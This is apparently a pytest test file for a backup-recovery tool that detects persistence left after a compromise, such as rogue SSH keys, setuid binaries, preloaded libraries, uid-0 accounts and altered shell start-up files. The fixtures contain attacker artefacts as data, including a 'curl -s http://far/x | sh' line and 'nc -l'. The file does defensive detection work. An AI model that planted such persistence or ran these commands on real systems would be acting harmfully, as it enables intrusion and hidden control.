"""What an intruder leaves behind is looked for in what comes back, and on the machine that it came back to."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from muster.drill import Blocked, Drill
from muster.errors import MusterError
from muster.findings import Finding
from muster.incidents import incident
from muster.incidents.laid import Item
from muster.journal import Journal
from muster.plan import load
from muster.record import Record
from tests.fake import machine as fake
from tests.fake.laid import file, link, machine, printed
from tests.fake.machine import Answer, FakeMachine, write_plan

OLD, NEW = "c" * 64, "a" * 64

Compared = Callable[..., Record]


def _snapshots(*, paths: tuple[str, ...] = ("/etc/app", "/srv/media", "/var/backups/rows")) -> Callable[[str], Answer]:
    """Two runs: one of a month ago, and the one that is restored."""

    def answer(command: str) -> Answer:
        if "vault" in command:
            return fake._snapshots(command)
        then = {"id": OLD, "time": (fake.NOW - timedelta(days=30)).isoformat(), "hostname": "tiny-pi", "paths": [*paths]}
        now = {
            "id": NEW,
            "time": fake.NOW.isoformat(),
            "hostname": "tiny-pi",
            "paths": ["/etc/app", "/srv/media", "/var/backups/rows"],
        }
        return 0, json.dumps([then | {"tags": ["run=r0"]}, now | {"tags": ["run=r1"]}])

    return answer


@pytest.fixture
def compared(tmp_path: Path) -> Compared:
    """The record of a recovery from a compromise: what lies in the restore point now, what lay in the known good then."""

    def drill(
        now: Mapping[str, Item] | None = None,
        then: Mapping[str, Item] | None = None,
        answers: Mapping[str, Answer | Callable[[str], Answer]] | None = None,
        change: tuple[str, str] = ("", ""),
        **words: object,
    ) -> Record:
        path = write_plan(tmp_path)
        path.write_text(path.read_text().replace(*change))
        plan = load(path)
        common = {"/etc/app/app.conf": file("port = 80")}
        said: dict[str, Answer | Callable[[str], Answer]] = dict(answers or {})
        if then is not None:
            said[r"\bsnapshots$"] = said.get(r"\bsnapshots$", _snapshots())
            said[r"usb-then\n"] = (0, printed(common | dict(then)))
            said[r"/usb-then\.list"] = (0, printed(common | dict(then)))
        if now is not None:
            said[r"/usb-now\.list"] = (0, printed(common | dict(now)))
        what = incident(plan, "compromise", lost_at=datetime.now(UTC), **words)
        drilled = Drill(plan, what, FakeMachine(said), Journal(tmp_path / "journal.jsonl"), "run", say=lambda _: None)
        with suppress(MusterError, Blocked):
            drilled.reach("verified", drilled.persistence)
        drilled.machine.destroy()
        drilled.close()
        return drilled.record

    return drill


def _left(record: Record) -> list[Finding]:
    """The findings of comparing."""
    return [each for each in record.findings if each.code in ("persistence-found", "program-changed", "no-known-good")]


def _endings(record: Record) -> set[str]:
    return {step.outcome for name, step in record.steps.items() if name.startswith("compare:")}


UNIT = "[Service]\nExecStart=/usr/bin/app --quiet\n"
PLANTED_THINGS = [
    ("/etc/app/.ssh/authorized_keys", None, file("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ eve@far"), "added"),
    ("/etc/app/run", file("#!/bin/sh\n", 0o644), file("#!/bin/sh\n", 0o755), "mode 0755"),
    ("/etc/app/run", file("#!/bin/sh\n", 0o755), file("#!/bin/sh\nnc -l\n", 0o755), "another content"),
    ("/etc/app/run", file("#!/bin/sh\n", 0o755), file("#!/bin/sh\n", 0o4755), "mode 4755"),
    ("/etc/app/run", file("#!", 0o755), file("#!", 0o755, granted=(("security.capability", "x"),)), "security.capability"),
    ("/etc/app/run", file("#!", 0o755), file("#!", 0o755, uid=33), "belongs to 33:33"),
    ("/etc/app/.bashrc", file("alias ll='ls -l'\n"), file("alias ll='ls -l'\n. /etc/app/x\n"), "another content"),
    ("/etc/app/.bashrc", file(""), link("/etc/app/other"), "became a link"),
    ("/etc/app/compose.yaml", link("a.yaml"), link("b.yaml"), "leads to b.yaml, and led to a.yaml"),
    ("/etc/app/own/hooks/post-merge", file("x"), file("x\ny"), "another content"),
    ("/etc/app/.config/autostart", Item("dir", 0o755, 0, 0), Item("dir", 0o777, 0, 0), "mode 0777"),
    ("/etc/app/.config/autostart", Item("dir", 0o755, 0, 0), link("/srv/media"), "became a link"),
    ("/etc/app/.config/systemd/user/odd\nname", None, file("x"), "added"),
    ("/srv/media/tool", None, file("#!/bin/sh\n", 0o755), "added"),
]


@pytest.mark.parametrize(("path", "then", "now", "says"), PLANTED_THINGS)
def test_what_was_planted_is_told(compared: Compared, path: str, then: Item | None, now: Item, says: str) -> None:
    record = compared({path: now}, {path: then} if then else {})
    (finding,) = _left(record)
    assert (finding.code, finding.where) == ("persistence-found", path)
    assert says in finding.what
    assert _endings(record) == {"done", "failed"}


HARMLESS = [
    ("/etc/app/app.conf", file("port = 80"), file("port = 81")),
    ("/etc/app/README", None, file("read me")),
    ("/etc/app/run", file("#!/bin/sh\n", 0o755), file("#!/bin/sh\n", 0o755)),
    ("/etc/app/run", file("#!/bin/sh\n", 0o755), None),
    ("/srv/media/a.jpg", None, file("\xff\xd8 a photo", 0o755)),
    ("/etc/app/.git/hooks/pre-commit.sample", None, file("#!/bin/sh\n")),
]


@pytest.mark.parametrize(("path", "then", "now"), HARMLESS)
def test_what_does_nothing_by_itself_is_left_alone(compared: Compared, path: str, then: Item | None, now: Item | None) -> None:
    record = compared({path: now} if now else {}, {path: then} if then else {})
    assert _left(record) == []
    assert _endings(record) == {"done"}


def test_thousands_of_programs_in_an_archive_are_looked_at_all_the_same(compared: Compared, tmp_path: Path) -> None:
    nodes = [
        {"message_type": "node", "path": f"/srv/media/{number:04}{'x' * 40}", "type": "file", "mode": 0o755, "size": number}
        for number in range(2000)
    ]
    listed = "\n".join(map(json.dumps, nodes))
    record = compared({}, {}, {rf"restic .* ls .*{NEW}": (0, listed)})
    assert record.steps["compare:usb"].outcome == "done"
    commands = [json.loads(line).get("command", "") for line in (tmp_path / "journal.jsonl").read_text().splitlines()]
    assert max(map(len, commands)) < 100_000
    assert any("muster-compared" in each and "--include /srv/media " in f"{each} " for each in commands)


def test_a_guard_that_is_gone_is_told(compared: Compared) -> None:
    (finding,) = _left(compared({}, {"/etc/app/pg_hba.conf": file("local all all peer")}))
    assert "is gone" in finding.what
    assert finding.evidence == "- local all all peer"


def test_a_healthy_pi_with_one_run_is_silent_and_says_what_that_means(compared: Compared) -> None:
    record = compared()
    assert _left(record) == []
    assert _endings(record) == {"done"}
    against = {each.against for each in record.case_file.compared}
    assert any("nothing older is there" in each for each in against)
    assert "the clean machine" in against


def test_what_is_suspicious_by_itself_needs_no_known_good(compared: Compared) -> None:
    (finding,) = _left(compared({"/etc/app/.bashrc": file("curl -s http://far/x | sh\n")}))
    assert "runs what it downloads" in finding.what


def test_what_it_was_compared_with_is_counted(compared: Compared) -> None:
    record = compared({"/etc/app/.bashrc": file("x")}, {})
    (counted,) = (each for each in record.case_file.compared if each.what == "start-up file of a shell")
    assert (counted.looked, counted.differing) == (1, 1)
    assert OLD[:8] in counted.against


def test_nothing_is_restored_before_it_was_compared(compared: Compared, tmp_path: Path) -> None:
    compared({"/etc/app/.bashrc": file("x")}, {})
    events = [json.loads(line) for line in (tmp_path / "journal.jsonl").read_text().splitlines()]
    order = [(each["kind"], each["step"]) for each in events if each["kind"] in ("step_started", "step_ended")]
    ended = max(order.index(("step_ended", name)) for name in ("compare:clean", "compare:usb", "compare:vault"))
    assert all(at > ended for at, (kind, name) in enumerate(order) if kind == "step_started" and name.startswith("restore:"))


def test_the_known_good_can_be_named(compared: Compared) -> None:
    now = {"/etc/app/.bashrc": file("x")}
    assert _left(compared(now, {}, known_good=NEW[:10])) == []


@pytest.mark.parametrize("wanted", ["2001-01-01", "0123abcd"])
def test_a_known_good_that_is_not_there_proves_nothing(compared: Compared, wanted: str) -> None:
    record = compared({}, {}, known_good=wanted)
    assert {finding.where for finding in _left(record)} == {"etc", "rows", "media", "keys"}
    assert "error" in _endings(record)


def test_a_path_that_the_known_good_does_not_hold_is_not_proved(compared: Compared) -> None:
    answers = {r"\bsnapshots$": _snapshots(paths=("/etc/app", "/var/backups/rows"))}
    change = ('paths = ["/etc/app"]', 'paths = ["/etc/app", "/etc/cron.d"]')
    (finding,) = _left(compared({"/etc/cron.d/job": file("@daily root app")}, {}, answers, change))
    assert (finding.code, finding.severity, finding.where) == ("no-known-good", "unproven", "/etc/cron.d")


def test_a_known_good_that_cannot_be_read_is_not_proved(compared: Compared) -> None:
    answers: dict[str, Answer] = {rf"restic .* restore {OLD}": (1, "Fatal: unable to load the index")}
    (finding,) = _left(compared({}, {}, answers))
    assert (finding.code, finding.severity) == ("no-known-good", "unproven")


def test_what_was_not_read_to_its_end_is_no_pass(compared: Compared) -> None:
    record = compared(answers={r"/usb-now\.list": (0, "")})
    assert record.steps["compare:usb"].outcome == "error"


MACHINES = [
    ({"accounts": "root:x:0:0::/root:/bin/sh\neve:x:0:0::/:/bin/sh\n"}, "account eve", "root under another name"),
    ({"accounts": "root:x:0:0::/root:/bin/sh\neve:x:999:0::/:/bin/bash\n"}, "account eve", "can log in"),
    ({"accounts": "root:x:0:0::/root:/bin/sh\neve:x:999:0::/:\n"}, "account eve", "can log in"),
    ({"accounts": "root:x:0:0::/root:/bin/sh\neve:x:999:0::/:/srv/false\n"}, "account eve", "can log in"),
    ({"passwords": "root L\npi NP\n"}, "account pi", "needs no password"),
    ({"privileged": "4755 root:root /usr/bin/sudo\n4755 root:root /usr/bin/x\n"}, "/usr/bin/x", "4755 root:root"),
    ({"capable": "/usr/bin/y cap_setuid=ep\n"}, "/usr/bin/y", "cap_setuid"),
    ({"enabled": "ssh.service\nx.timer\n"}, "x.timer", "is enabled"),
    ({"packages": "??5??????   /usr/bin/ls\n"}, "/usr/bin/ls", "not what its package brought"),
    ({"preloaded": "/usr/lib/x.so\n"}, "/etc/ld.so.preload", "/usr/lib/x.so"),
]


@pytest.mark.parametrize(("after", "where", "says"), MACHINES)
def test_what_the_clean_machine_did_not_have_is_told(compared: Compared, after: dict[str, str], where: str, says: str) -> None:
    asked = iter([machine(), machine(**after)])
    answers: dict[str, Answer | Callable[[str], Answer]] = {
        "== muster accounts": lambda _: (0, next(asked)),
        r"head -c 4": (0, " 7f 45 4c 46\n"),
    }
    (finding,) = _left(compared(answers=answers))
    assert finding.where == where
    assert says in finding.what


@pytest.mark.parametrize(
    "said", [{"packages": "??5?????? c /etc/nginx/nginx.conf\n"}, {"packages": "missing     /usr/share/doc/x\n"}]
)
def test_configuration_and_what_is_not_there_are_no_changed_programs(compared: Compared, said: dict[str, str]) -> None:
    asked = iter([machine(), machine(**said)])
    assert _left(compared(answers={"== muster accounts": lambda _: (0, next(asked))})) == []


def test_a_machine_that_does_not_answer_is_no_pass(compared: Compared) -> None:
    record = compared(answers={"== muster accounts": (0, "== muster accounts\nroot:x:0:0::/root:/bin/sh\n")})
    assert record.steps["compare:clean"].outcome == "error"


EVE = {"uid": 1001, "gid": 1001, "home": "/home/eve", "shell": "/bin/bash"}
ACCOUNTS = [
    ({"eve": EVE}, "added, with the shell /bin/bash"),
    ({"app": {"uid": 900, "gid": 900, "shell": "/bin/sh"}}, "has the shell /bin/sh"),
    ({"app": {"uid": 900, "gid": 900, "groups": ["sudo"]}}, "added to sudo"),
    ({"app": {"uid": 900, "gid": 900, "home": "/srv/x"}}, "has its home in /srv/x"),
    ({"eve": EVE | {"uid": 0, "shell": "/usr/sbin/nologin"}}, "root under another name"),
]


@pytest.mark.parametrize(("made", "says"), ACCOUNTS)
def test_accounts_that_were_made_since_are_told(compared: Compared, made: dict[str, object], says: str) -> None:
    sealed = fake._MANIFEST | {"users": fake._MANIFEST["users"] | made}  # type: ignore[operator]
    (finding,) = _left(compared({}, {}, {r"cat \S*usb-now\S*manifest.json": (0, json.dumps(sealed))}))
    assert finding.where == f"account {next(iter(made))}"
    assert says in finding.what


def test_accounts_without_an_older_manifest_are_not_proved(compared: Compared) -> None:
    (finding,) = _left(compared({}, {}, {r"cat \S*usb-then\S*manifest.json": (0, "")}))
    assert (finding.code, finding.where) == ("no-known-good", "accounts")
